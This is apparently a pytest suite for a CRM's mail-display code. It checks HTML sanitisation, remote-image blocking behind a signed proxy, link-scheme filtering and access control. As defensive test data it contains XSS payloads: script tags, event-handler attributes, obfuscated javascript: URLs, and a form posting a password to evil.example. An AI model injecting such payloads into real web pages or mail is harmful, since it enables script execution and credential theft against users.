"""Mail bodies on the record page: HTML sanitised at display time, text kept as text, remote
images blocked until "Load images", which renders them through the signed image proxy only.

The browser suite (tests/e2e/test_hostile_mail_bodies.py) renders the whole hostile corpus in
Chromium; these tests check the server's output and the body fragment route."""

from __future__ import annotations

import re
from urllib.parse import parse_qs, urlsplit

import pytest
from fastapi.testclient import TestClient

from inboxcrm.bootstrap import Runtime
from inboxcrm.web.image_proxy import PROXY_PATH
from inboxcrm.web.ui.mail_html import (
    MAX_PROXIED_IMAGES,
    clean_mail_html,
    remote_image_url,
    sanitize_mail_html,
)
from tests.factories import make_contact, make_email_message, make_mail_account
from tests.fixtures.web import TenantFactory
from tests.integration.ui.ui_session import sign_in

PAYLOADS = """
<p>Quarterly <b>numbers</b> and <a href="https://example.org/report">the report</a>.</p>
<script>window.__xss = 1</script>
<img src=x onerror="window.__xss = 2">
<a href="javascript:window.__xss=3">click</a>
<a href=" JaVaScRiPt:window.__xss=4">click2</a>
<svg onload="window.__xss = 5"><circle r="2"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<div style="position:fixed" onmouseover="window.__xss=6">hover</div>
<img src="https://tracker.example.net/open.gif">
<form action="https://evil.example/steal"><input name="password"></form>
<a href="/logout">relative</a>
"""
_BODY = re.compile(
    r'<div class="mail-body" id="mail-body-\d+">(.*?)</div>\s*'
    r'(?:<ul class="attachments">|</article>)',
    re.S,
)


def _mail_bodies(page: str) -> list[str]:
    return _BODY.findall(page)


def test_hostile_html_in_a_mail_body_renders_sanitised(
    client: TestClient, tenants: TenantFactory, runtime: Runtime
) -> None:
    rep = tenants.member("acme", "rep")
    sign_in(client, rep)
    with runtime.tenant_uow("acme") as uow:
        contact = make_contact(uow, emails=["cfo@client.example.com"])
        make_email_message(
            uow,
            link_to=[("contact", contact.id)],
            from_address="cfo@client.example.com",
            body_html=PAYLOADS,
            match_detail="cfo@client.example.com",
        )
        make_email_message(
            uow,
            link_to=[("contact", contact.id)],
            body_html=None,
            body_text="<script>window.__xss = 7</script> plain & simple",
        )
    page = client.get(f"/contacts/{contact.id}")
    assert page.status_code == 200
    bodies = _mail_bodies(page.text)
    assert len(bodies) == 2
    html = "\n".join(bodies).lower()
    for forbidden in ("<script", "onerror", "onload", "onmouseover", "javascript:", "<svg",
                      "<iframe", "<style", "style=", "<form", "<input", "tracker.example",
                      'href="/logout"'):  # fmt: skip
        assert forbidden not in html, forbidden
    assert "<b>numbers</b>" in html
    assert 'href="https://example.org/report"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "&lt;script&gt;window.__xss = 7&lt;/script&gt; plain &amp; simple" in html
    assert "one of this record" in page.text  # why the mail is linked here


def test_sanitiser_keeps_formatting_and_embedded_images_only() -> None:
    kept = sanitize_mail_html(
        "<h2>Hi</h2><ul><li>one</li></ul><table><tr><td colspan=2>x</td></tr></table>"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
    )
    assert "<h2>Hi</h2>" in kept and "<li>one</li>" in kept and 'colspan="2"' in kept
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in kept
    assert "src=" not in sanitize_mail_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "href" not in sanitize_mail_html('<a href="data:text/html,<script>x</script>">d</a>')
    assert sanitize_mail_html("<!-- secret --><p>a</p>") == "<p>a</p>"


REMOTE_IMAGES = (
    '<p>Logo:</p><img src="https://images.example.net/logo.png" alt="logo">'
    '<img src="//tracker.example.net/open.gif" width="1" height="1">'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
    '<img src="/relative.png"><img src="cid:part1@sender.example">'
)


def test_remote_images_are_blocked_and_counted_and_only_proxied_when_asked() -> None:
    blocked = clean_mail_html(REMOTE_IMAGES)
    assert blocked.remote_images == 2
    assert "example.net" not in blocked.html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in blocked.html
    assert "relative.png" not in blocked.html and "cid:" not in blocked.html

    seen: list[str] = []

    def proxy(url: str) -> str:
        seen.append(url)
        return f"{PROXY_PATH}?u={len(seen)}&s=sig"

    proxied = clean_mail_html(REMOTE_IMAGES, proxy_image=proxy)
    assert seen == ["https://images.example.net/logo.png", "https://tracker.example.net/open.gif"]
    assert proxied.html.count(f'src="{PROXY_PATH}?u=') == 2
    assert "example.net" not in proxied.html
    assert "relative.png" not in proxied.html  # the mail's own relative URLs stay out


def test_one_body_routes_a_bounded_number_of_images_through_the_proxy() -> None:
    many = "".join(f'<img src="https://t.example/{n}.gif">' for n in range(MAX_PROXIED_IMAGES + 25))
    proxied = clean_mail_html(many, proxy_image=lambda url: f"{PROXY_PATH}?u={url[-6:]}")
    assert proxied.remote_images == MAX_PROXIED_IMAGES + 25
    assert proxied.html.count("src=") == MAX_PROXIED_IMAGES


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://a.example/x.png", "https://a.example/x.png"),
        ("  HTTP://a.example/x.png\n", "HTTP://a.example/x.png"),
        ("ht\ttps://a.example/x", "https://a.example/x"),
        ("//a.example/x", "https://a.example/x"),
        ("\x01https://a.example/x", "https://a.example/x"),
        ("https:a.example", None),
        ("https://", None),
        ("/local.png", None),
        ("javascript:alert(1)", None),
        ("data:image/png;base64,AAAA", None),
        ("cid:x@y", None),
    ],
)
def test_remote_image_urls_are_read_as_the_browser_reads_them(
    value: str, expected: str | None
) -> None:
    assert remote_image_url(value) == expected


def test_links_are_absolute_with_an_allowed_scheme_only() -> None:
    html = sanitize_mail_html(
        '<a href="https://ok.example/">ok</a><a href="/logout">rel</a>'
        '<a href="//evil.example/">proto</a><a href="java&#9;script:alert(1)">tab</a>'
        '<a href="&#1;javascript:alert(1)">ctl</a><a href="mailto:a@b.example">mail</a>'
        '<a href="\\\\evil.example\\share">unc</a><a href="?next=//evil.example">q</a>'
    )
    assert html.count("href=") == 2
    assert 'href="https://ok.example/"' in html and 'href="mailto:a@b.example"' in html


def _body_fragment(client: TestClient, message_id: int, images: bool) -> str:
    suffix = "?images=1" if images else ""
    response = client.get(f"/email-messages/{message_id}/body{suffix}")
    assert response.status_code == 200, response.text
    return response.text


def test_load_images_renders_the_body_with_signed_proxy_urls_for_that_message(
    client: TestClient, tenants: TenantFactory, runtime: Runtime
) -> None:
    rep = tenants.member("acme", "rep")
    sign_in(client, rep)
    rep_id = int(client.get("/api/v1/me", headers=rep.headers).json()["user_id"])
    with runtime.tenant_uow("acme") as uow:
        contact = make_contact(uow, emails=["news@sender.example"])
        account = make_mail_account(uow, user_id=rep_id, email="rep@acme.example.com")
        message = make_email_message(
            uow, mail_account=account, link_to=[("contact", contact.id)], body_html=REMOTE_IMAGES
        )
        message_id = message.id

    page = client.get(f"/contacts/{contact.id}").text
    assert "2 remote images blocked" in page
    assert f'hx-get="/email-messages/{message_id}/body?images=1"' in page
    assert "example.net" not in page

    blocked = _body_fragment(client, message_id, images=False)
    assert "example.net" not in blocked and "Load images" in blocked
    loaded = _body_fragment(client, message_id, images=True)
    assert "Load images" not in loaded
    sources = re.findall(r'<img src="(/image-proxy\?[^"]+)"', loaded)
    assert len(sources) == 2
    queries = [parse_qs(urlsplit(src.replace("&amp;", "&")).query) for src in sources]
    assert [q["u"][0] for q in queries] == [
        "https://images.example.net/logo.png",
        "https://tracker.example.net/open.gif",
    ]
    assert {q["m"][0] for q in queries} == {str(message_id)}
    assert all(re.fullmatch(r"[0-9a-f]{64}", q["s"][0]) for q in queries)


def test_the_body_fragment_follows_mail_sharing_and_needs_a_login(
    client: TestClient, tenants: TenantFactory, runtime: Runtime
) -> None:
    owner = tenants.member("acme", "rep")
    other = tenants.member("acme", "rep", email="other@acme.example.com")
    owner_id = int(client.get("/api/v1/me", headers=owner.headers).json()["user_id"])
    with runtime.tenant_uow("acme") as uow:
        account = make_mail_account(uow, user_id=owner_id, sharing="private")
        message_id = make_email_message(uow, mail_account=account, body_html="<p>x</p>").id

    anonymous = client.get(f"/email-messages/{message_id}/body", follow_redirects=False)
    assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/login")
    sign_in(client, other)
    assert client.get(f"/email-messages/{message_id}/body").status_code == 404
    assert client.get(f"/email-messages/{message_id + 999}/body").status_code == 404
    assert client.get("/email-messages/1%0A/body").status_code == 404
